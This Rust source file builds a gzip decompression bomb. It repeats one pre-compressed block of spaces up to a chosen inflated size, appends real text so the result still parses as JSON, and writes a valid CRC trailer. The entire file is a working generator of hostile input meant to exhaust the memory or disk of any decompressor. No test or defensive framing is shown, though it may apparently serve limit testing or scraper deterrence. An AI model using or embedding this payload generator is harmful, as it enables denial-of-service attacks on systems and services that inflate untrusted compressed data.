//! A gzip bomb that is cheap to make: one compressed block of white space, repeated, then the real text.

use flate2::{Compress, Compression, Crc, FlushCompress, Status};

const BLOCK: usize = 1 << 20;
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// Inflates to at least `inflated` bytes: spaces, then `text`, so that JSON stays JSON.
pub(crate) fn gzip(inflated: u64, text: &[u8]) -> Vec<u8> {
    let spaces = vec![b' '; BLOCK];
    let block = deflated(&spaces, FlushCompress::Full);
    let mut block_crc = Crc::new();
    block_crc.update(&spaces);
    let mut crc = Crc::new();
    let mut out = HEADER.to_vec();
    for _ in 0..inflated.div_ceil(BLOCK as u64) {
        out.extend_from_slice(&block);
        crc.combine(&block_crc);
    }
    out.extend_from_slice(&deflated(text, FlushCompress::Finish));
    crc.update(text);
    out.extend_from_slice(&crc.sum().to_le_bytes());
    out.extend_from_slice(&crc.amount().to_le_bytes());
    out
}

/// After a full flush the block ends at a byte and looks back at nothing, so blocks can stand in a row.
fn deflated(plain: &[u8], flush: FlushCompress) -> Vec<u8> {
    let mut compress = Compress::new(Compression::fast(), false);
    let mut out = Vec::new();
    loop {
        out.reserve(plain.len() + 1024);
        let from = usize::try_from(compress.total_in()).unwrap_or(plain.len());
        let before = out.len();
        let status = compress.compress_vec(&plain[from..], &mut out, flush);
        let all_read = compress.total_in() >= plain.len() as u64;
        let done = match flush {
            FlushCompress::Finish => matches!(status, Ok(Status::StreamEnd) | Err(_)),
            _ => all_read && out.len() < out.capacity(),
        };
        if done || (out.len() == before && all_read) {
            return out;
        }
    }
}
